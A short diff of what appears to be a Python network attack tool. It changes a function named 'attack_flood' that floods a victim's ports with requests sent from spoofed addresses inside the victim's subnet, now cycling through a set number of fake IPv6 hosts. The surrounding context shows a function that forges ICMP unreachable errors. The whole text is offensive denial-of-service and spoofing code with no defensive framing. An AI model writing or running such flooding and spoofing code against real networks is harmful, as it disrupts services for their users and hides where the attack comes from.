@@ -246,12 +246,13 @@ def attack_unreachable(wire, victim, peer):
     wire.s.send(icmp_error(wire.dmac, dst, src, head + rest[:200]))
 
 
-def attack_flood(wire, victim, ports, seconds):
-    """REQs from as many addresses of the victim's subnet, by turns to these ports."""
+def attack_flood(wire, victim, ports, seconds, hosts):
+    """REQs from that many addresses of the victim's subnet (IPv6) in turn, by turns to these ports."""
     dst, ports, n = address(victim), [int(p) for p in ports.split(",")], 0
+    subnet = dst[:8] + os.urandom(4)
     end = time.monotonic() + float(seconds)
     while time.monotonic() < end:
-        src = dst[:8] + os.urandom(8) if len(dst) == 16 else dst[:3] + os.urandom(1)
+        src = subnet + struct.pack("!I", n % int(hosts))
         try:
             wire.send(src, dst, req(ports[n % len(ports)], src, dst, cma_header(src, dst)))
         except OSError:  # the cable's queue is full
